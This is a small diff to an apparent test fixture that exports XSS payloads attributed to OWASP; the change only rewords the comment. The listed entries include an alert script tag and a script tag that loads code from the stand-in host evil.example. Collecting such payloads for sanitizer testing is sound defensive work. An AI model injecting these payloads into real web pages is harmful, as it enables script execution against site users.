@@ -1,4 +1,4 @@
-/** From OWASP, mutation XSS and known vulnerabilities; each would `alert` or call evil.example. */
+/** Payloads from OWASP and from known vulnerabilities. Each would call `alert` or load evil.example. */
 export const XSS_PAYLOADS = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
